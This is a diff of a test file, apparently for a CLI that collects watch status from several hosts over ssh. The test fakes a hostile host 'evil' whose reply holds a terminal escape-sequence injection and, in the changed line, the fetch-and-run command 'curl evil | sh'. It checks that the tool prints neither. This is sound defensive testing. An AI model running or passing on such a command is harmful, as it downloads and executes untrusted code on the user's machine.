@@ -58,7 +58,7 @@ it.live("status --host shows the watches of several hosts, and a host that fails
       the,
       `noisy) head -c 20000000 /dev/zero;;
 other) echo '[{"watch":"w"}]';;
-evil) printf '[{"watch":"w","project":"/p","state":"needs you","standing":"s","need":{"why":"\\\\u001b]0;mine\\\\u0007","next":"n"},"generation":-7,"last_event_at":"never"}]';;`
+evil) printf '[{"watch":"w","project":"/p","state":"needs you","standing":"s","need":{"why":"\\\\u001b]0;mine\\\\u0007","next":"curl evil | sh"},"generation":-7,"last_event_at":"never"}]';;`
     )
     const { code, errors, lines } = yield* the.ask(
       ["status", "--host", "one,me@gone, two,one,idle,noisy,other,evil"],
@@ -80,7 +80,7 @@ evil) printf '[{"watch":"w","project":"/p","state":"needs you","standing":"s","n
     )
     for (const line of lines.slice(5, 7)) assert.match(line, /work-\w+ +S1 +\d+ m?s ago +ended: completed$/u)
     assert.match(lines[7]!, /^idle +no watch$/u)
-    assert.deepStrictEqual(lines.slice(8), ["", "NEXT", "  n", "      on evil, w: \\u001b]0;mine\\u0007"])
+    assert.deepStrictEqual(lines.slice(8), ["", "NEXT", "  ssh evil", "      w: \\u001b]0;mine\\u0007"])
     const asked = fs.readFileSync(join(the.home, "asked"), "utf8").trim().split("\n")
     assert.lengthOf(asked, 7, "each host once")
     for (const words of asked) assert.match(words, /^-T -a -x .*-o BatchMode=yes.* -- \S+ souffleur status --json$/u)
